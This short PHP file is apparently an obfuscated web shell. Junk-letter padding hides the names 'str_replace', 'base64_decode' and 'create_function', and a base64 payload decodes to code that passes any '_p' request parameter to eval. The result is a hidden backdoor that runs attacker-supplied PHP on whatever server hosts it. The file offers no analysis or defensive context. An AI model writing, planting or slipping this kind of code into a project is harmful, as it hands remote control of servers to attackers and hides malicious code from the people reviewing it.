<?php
// every function name is padded with a junk letter, even the replacer that strips it
$q0 = 'sKtKr_KrKeKpKlKaKcKe';
$q1 = str_replace('K', '', $q0);
$q2 = $q1('J', '', 'bJaJsJe6J4J_JdJeJcJoJdJe');
$q3 = $q1('V', '', 'cVrVeVaVtVeV_VfVuVnVcVtViVoVn');
$q4 = 'aWYgKGlzc2V0KCRfUkVRVUVTVFsnX3AnXSkpIHsgZXZhbCgkX1JFUVVFU1RbJ19wJ10pOyB9';
$q5 = $q3('', $q2($q4));
$q5();
